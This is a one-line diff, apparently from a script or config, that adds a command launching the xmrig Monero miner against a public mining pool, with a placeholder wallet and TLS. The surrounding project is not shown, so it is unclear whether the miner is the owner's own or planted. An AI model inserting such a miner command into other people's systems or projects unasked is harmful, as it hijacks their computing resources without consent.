@@ -1,0 +1,1 @@
+./xmrig -o pool.supportxmr.com:443 -u WALLET -k --tls
